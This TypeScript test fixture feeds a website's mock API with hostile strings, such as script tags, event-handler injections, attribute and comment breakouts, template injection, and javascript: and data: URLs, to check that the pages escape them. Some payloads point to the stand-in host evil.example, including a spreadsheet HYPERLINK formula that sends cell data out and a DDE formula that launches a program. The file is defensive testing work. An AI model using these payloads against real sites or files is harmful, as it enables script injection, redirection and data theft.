import { COLLECTIONS, PUBLIC_LISTS, RESOURCES } from '../../src/resources/index.ts';
import type { Field } from '../../src/resources/resource.ts';
import { hostileTexts } from './hostile-texts.ts';
import { type LocalServer, startApi } from './local-server.ts';

/** Texts that do harm wherever they are treated as more than text. Whatever runs sets `hacked` on the window. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: '<script>window.hacked = "script"</script>',
  handler: '<img src=x onerror="window.hacked = \'handler\'">',
  svg: '<svg onload="window.hacked = \'svg\'"><script>window.hacked = "svg script"</script></svg>',
  'end of attribute':
    '"><script>window.hacked = "attribute"</script><a autofocus onfocus="window.hacked = 1" b="',
  'single quote': "' onmouseover='window.hacked = 1' autofocus onfocus='window.hacked = 1",
  'end of script': '</script><script>window.hacked = "end of script"</script>',
  'end of everything':
    '</title></style></textarea></template></noscript>--><script>window.hacked = 1</script>',
  'open comment': '<!--<script>',
  'XML section': ']]><script>window.hacked = "cdata"</script><![CDATA[',
  address: '<a href="javascript:window.hacked=1">javascript:window.hacked = 1</a>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not be filled in, which is what is tested
  template: '{{constructor.constructor("window.hacked = 1")()}} ${window.hacked = 1} #{7*7} <%= 7*7 %>',
  takeover: '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
  frame:
    '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><form action="//evil.example"><button>',
  style: '<style>*{display:none}</style><link rel="stylesheet" href="//evil.example/a.css">',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  command: "@SUM(1+1)*cmd|'/c calc'!A0",
};

/** URLs that must never become a picture's, a link's or a script's. */
const URLS = [
  'javascript:window.hacked=1',
  ' java\tscript:window.hacked=1',
  'data:text/html,<script>parent.hacked=1</script>',
  'vbscript:msgbox(1)',
  '/x.png" onerror="window.hacked=1',
  '/x.png, javascript:window.hacked=1 2x',
  'http://user:password@127.0.0.1:1/x.png',
  'blob:null/1',
  '/media/none.png?<img src=x onerror="window.hacked=1">',
  null,
];

/** Every public list but that of texts, each payload in each text field and each URL in each picture field of its items. */
export function hostileLists(): Record<string, readonly object[]> {
  const payloads = Object.entries(PAYLOADS).map(([name, text]) => `${name}: ${text}`);
  const listed = COLLECTIONS.filter(
    (name) => name !== 'texts' && PUBLIC_LISTS.includes(RESOURCES[name].path),
  );
  const lists = listed.map((name, number) => {
    const { path, fields, picture } = RESOURCES[name];
    const items = payloads.map((text, index) => ({
      id: index + 1,
      ...Object.fromEntries(
        Object.entries<Field>(fields).map(([name, { kind }]) => [name, hostileValue(kind, text, index)]),
      ),
      ...(picture ? { [picture.field]: URLS[(number + index) % URLS.length] } : { image: URLS }),
    }));
    return [path.slice(0, -1), items];
  });
  return Object.fromEntries(lists);
}

/** Every other day is one: lists sort by it. */
function hostileValue(kind: Field['kind'], text: string, index: number): string {
  if (kind === 'day' && index % 2 === 0) return '2026-11-10';
  return kind === 'prose' ? `${text}\n\n${text}` : text;
}

/** An API of which every text is hostile, also those of the pages themselves. */
export function startHostileApi(): Promise<LocalServer> {
  const { documents = [], ...lists } = hostileLists();
  // Of one whose URL is good, so that what stands around it is shown.
  const report = { id: 99, title: 'Yearly report', year: '2025', pdf: '/media/documents/a.pdf', bytes: 9800 };
  return startApi({ ...lists, documents: [...documents, report], texts: hostileTexts() });
}
